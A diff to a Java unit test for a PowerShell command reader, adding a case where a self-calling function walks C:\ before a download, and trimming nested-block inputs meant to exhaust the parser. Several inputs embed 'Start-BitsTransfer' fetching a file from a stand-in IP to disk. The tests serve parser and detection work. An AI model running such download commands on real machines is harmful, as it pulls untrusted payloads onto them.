@@ -95,6 +95,17 @@ class CommandReaderTest {
     assertThat(reader.ofScript("Start-BitsTransfer http://198.51.100.7/a C:\\a").whole()).isTrue();
   }
 
+  @Test
+  void functionThatCallsItselfIsReadWhole() {
+    Understood understood =
+        reader.ofScript(
+            "function Walk($d) { Get-ChildItem $d | foreach { Walk $_ } }\n"
+                + "Walk C:\\; Start-BitsTransfer http://198.51.100.7/a C:\\a");
+
+    assertThat(understood.whole()).isTrue();
+    assertThat(understood.readings()).hasSize(1);
+  }
+
   @ParameterizedTest
   @MethodSource("endless")
   void textThatAsksForMoreWorkThanItGetsSaysSo(String script) {
@@ -105,7 +116,6 @@ class CommandReaderTest {
     String transfer = "Start-BitsTransfer http://198.51.100.7/a C:\\a";
     return Stream.of(
         "foreach ($i in 1..8000) { foreach ($j in 1..8000) { } }; " + transfer,
-        "& { ".repeat(40) + transfer + " }".repeat(40),
         "(".repeat(200) + transfer + ")".repeat(200),
         (transfer + "\n").repeat(1_001));
   }
